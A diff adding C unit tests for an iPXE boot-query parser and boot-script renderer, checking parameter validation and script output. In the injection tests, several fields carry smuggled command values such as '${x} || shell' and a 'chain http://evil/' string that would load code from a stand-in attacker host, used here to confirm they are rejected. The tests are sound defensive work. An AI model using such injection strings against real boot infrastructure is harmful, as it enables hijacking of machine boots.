@@ -1,0 +1,190 @@
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <cmocka.h>
+#include <errno.h>
+#include <string.h>
+
+#include "query.h"
+#include "script.h"
+
+#define N(a) (sizeof(a) / sizeof((a)[0]))
+
+static void test_full_query(void **state)
+{
+	const struct qarg a[] = {
+		{ "mac", "52:54:00:AB:cd:EF" }, { "ip", "10.0.2.15" }, { "netmask", "255.255.255.0" },
+		{ "gateway", "10.0.2.2" }, { "dns", "10.0.2.3" }, { "uuid", "8F2B5C3A-0000-4000-8000-0123456789AB" },
+		{ "serial", "SN 4711 (x)" }, { "product", "R42" }, { "manufacturer", "Acme, Inc." },
+		{ "platform", "pcbios" }, { "buildarch", "x86_64" },
+	};
+	struct boot_query q;
+	char err[256];
+
+	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
+	assert_string_equal(q.mac, "52:54:00:ab:cd:ef");
+	assert_string_equal(q.uuid, "8f2b5c3a-0000-4000-8000-0123456789ab");
+	assert_string_equal(q.serial, "SN 4711 (x)");
+	assert_string_equal(q.buildarch, "x86_64");
+}
+
+static void test_empty_values_are_absent(void **state)
+{
+	/* iPXE expands an unset ${serial} to nothing */
+	const struct qarg a[] = { { "mac", "52-54-00-ab-cd-ef" }, { "serial", "" }, { "ip", "" } };
+	struct boot_query q;
+	char err[256];
+
+	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
+	assert_string_equal(q.mac, "52:54:00:ab:cd:ef");
+	assert_string_equal(q.serial, "");
+}
+
+static void bad(const struct qarg *a, size_t n, const char *expect)
+{
+	struct boot_query q;
+	char err[256] = "";
+
+	assert_int_equal(boot_query_parse(a, n, &q, err, sizeof(err)), -EINVAL);
+	if (strstr(err, expect) == NULL) {
+		fail_msg("'%s' lacks '%s'", err, expect);
+	}
+}
+
+static void test_rejects(void **state)
+{
+	const struct qarg nomac[] = { { "ip", "10.0.0.1" } };
+	const struct qarg badmac[] = { { "mac", "52:54:00:ab:cd" } };
+	const struct qarg badip[] = { { "mac", "52:54:00:ab:cd:ef" }, { "ip", "10.0.0.256" } };
+	const struct qarg octal[] = { { "mac", "52:54:00:ab:cd:ef" }, { "ip", "010.0.0.1" } };
+	const struct qarg twice[] = { { "mac", "52:54:00:ab:cd:ef" }, { "mac", "52:54:00:ab:cd:ee" } };
+	const struct qarg unknown[] = { { "mac", "52:54:00:ab:cd:ef" }, { "cmd", "shell" } };
+	const struct qarg nl[] = { { "mac", "52:54:00:ab:cd:ef" }, { "serial", "x\nshell" } };
+	const struct qarg high[] = { { "mac", "52:54:00:ab:cd:ef" }, { "product", "caf\xc3\xa9" } };
+	const struct qarg longs[] = { { "mac", "52:54:00:ab:cd:ef" },
+				      { "serial", "0123456789012345678901234567890123456789012345678901234567890123456789" } };
+	const struct qarg uuid[] = { { "mac", "52:54:00:ab:cd:ef" }, { "uuid", "8f2b5c3a-0000-4000-8000-0123456789ag" } };
+	const struct qarg plat[] = { { "mac", "52:54:00:ab:cd:ef" }, { "platform", "EFI x" } };
+
+	bad(nomac, N(nomac), "parameter mac is missing");
+	bad(badmac, N(badmac), "parameter mac: '52:54:00:ab:cd' is not a MAC address");
+	bad(badip, N(badip), "parameter ip: '10.0.0.256' is not an IPv4 address");
+	bad(octal, N(octal), "parameter ip: '010.0.0.1'");
+	bad(twice, N(twice), "parameter mac given twice");
+	bad(unknown, N(unknown), "unknown parameter 'cmd'");
+	bad(nl, N(nl), "parameter serial: 'x?shell' is not printable ASCII");
+	bad(high, N(high), "parameter product");
+	bad(longs, N(longs), "parameter serial");
+	bad(uuid, N(uuid), "parameter uuid");
+	bad(plat, N(plat), "parameter platform");
+}
+
+static const struct render_ctx *ctx(struct boot_query *q, const char *policy)
+{
+	static struct render_ctx c;
+
+	memset(&c, 0, sizeof(c));
+	c.q = q;
+	c.policy = policy;
+	c.public_url = "http://10.0.2.2:8080";
+	c.payload_url = "http://10.0.2.2:8080/payload";
+	c.token = "AbCdEfGhIjKlMnOpQrStUvWxYz012345";
+	c.extra_args = "console=ttyS0,115200n8 panic=-1";
+	c.heartbeat = 30;
+	c.source_ip = "10.0.2.15";
+	return &c;
+}
+
+static int lines(const char *s)
+{
+	int n = 0;
+
+	for (; *s; s++) {
+		n += *s == '\n';
+	}
+	return n;
+}
+
+static void test_render_rescue(void **state)
+{
+	const struct qarg a[] = { { "mac", "52:54:00:12:34:56" }, { "ip", "10.0.2.15" },
+				  { "netmask", "255.255.255.0" }, { "gateway", "10.0.2.2" } };
+	struct boot_query q;
+	char out[4096], err[256];
+
+	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
+	assert_true(script_render(DECIDE_RESCUE, ctx(&q, "rescue"), out, sizeof(out), err, sizeof(err)) > 0);
+	assert_non_null(strstr(out, "#!ipxe\n"));
+	assert_non_null(strstr(out, "kernel http://10.0.2.2:8080/payload/bzImage initrd=initramfs.cpio.lzma "
+				    "console=ttyS0,115200n8 panic=-1 BOOTIF=01-52-54-00-12-34-56 "
+				    "ip=10.0.2.15::10.0.2.2:255.255.255.0:::: lifeboat.server=http://10.0.2.2:8080 "
+				    "lifeboat.token=AbCdEfGhIjKlMnOpQrStUvWxYz012345 "
+				    "lifeboat.keys=http://10.0.2.2:8080/api/v1/keys/52:54:00:12:34:56 "
+				    "lifeboat.heartbeat=30 || goto failed\n"));
+	assert_non_null(strstr(out, "initrd http://10.0.2.2:8080/payload/initramfs.cpio.lzma || goto failed\n"));
+	assert_non_null(strstr(out, "\nexit 1\n"));
+	assert_int_equal(lines(out), 8);
+}
+
+static void test_render_normal_and_mismatch(void **state)
+{
+	const struct qarg a[] = { { "mac", "52:54:00:12:34:56" }, { "ip", "10.0.2.15" } };
+	struct boot_query q;
+	char out[4096], err[256];
+
+	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
+	assert_true(script_render(DECIDE_NORMAL, ctx(&q, "normal"), out, sizeof(out), err, sizeof(err)) > 0);
+	assert_string_equal(out, "#!ipxe\necho Lifeboat: 52:54:00:12:34:56 has policy normal: booting from the next device\nexit 0\n");
+	assert_true(script_render(DECIDE_IP_MISMATCH, ctx(&q, "rescue"), out, sizeof(out), err, sizeof(err)) > 0);
+	assert_non_null(strstr(out, "the request came from 10.0.2.15 but iPXE says ip=10.0.2.15"));
+	assert_non_null(strstr(out, "\nexit 0\n"));
+	assert_null(strstr(out, "kernel"));
+}
+
+/* Anything that is not whitelisted cannot reach a script: not even values
+ * that passed their own parser (an SMBIOS string such as "${x} || shell"
+ * is printable, so it is simply never written into a script). */
+static void test_injection(void **state)
+{
+	const struct qarg a[] = { { "mac", "52:54:00:12:34:56" }, { "serial", "${x} || shell" },
+				  { "product", "x\" && chain http://evil/" } };
+	struct boot_query q;
+	struct render_ctx c;
+	char out[4096], err[256];
+
+	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
+	assert_true(script_render(DECIDE_RESCUE, ctx(&q, "rescue"), out, sizeof(out), err, sizeof(err)) > 0);
+	assert_null(strstr(out, "shell"));
+	assert_null(strstr(out, "evil"));
+	assert_null(strstr(out, "${"));
+	c = *ctx(&q, "rescue");
+	c.extra_args = "quiet\nshell";
+	assert_int_equal(script_render(DECIDE_RESCUE, &c, out, sizeof(out), err, sizeof(err)), -EINVAL);
+	assert_non_null(strstr(err, "kernel arguments"));
+	c = *ctx(&q, "rescue");
+	c.public_url = "http://h/${net0/ip}";
+	assert_int_equal(script_render(DECIDE_RESCUE, &c, out, sizeof(out), err, sizeof(err)), -EINVAL);
+	c = *ctx(&q, "rescue");
+	c.token = "a b";
+	assert_int_equal(script_render(DECIDE_RESCUE, &c, out, sizeof(out), err, sizeof(err)), -EINVAL);
+	assert_int_equal(ipxe_safe_word("http://10.0.2.2:8080/payload"), 1);
+	assert_int_equal(ipxe_safe_word("a#b"), 0);
+	assert_int_equal(ipxe_safe_word("a\"b"), 0);
+	assert_int_equal(ipxe_safe_word("a$b"), 0);
+	assert_int_equal(ipxe_safe_word(""), 0);
+	assert_int_equal(ipxe_safe_words("a b"), 1);
+	assert_int_equal(ipxe_safe_words("a\tb"), 0);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_full_query),
+		cmocka_unit_test(test_empty_values_are_absent),
+		cmocka_unit_test(test_rejects),
+		cmocka_unit_test(test_render_rescue),
+		cmocka_unit_test(test_render_normal_and_mismatch),
+		cmocka_unit_test(test_injection),
+	};
+	return cmocka_run_group_tests_name("query", tests, NULL, NULL);
+}
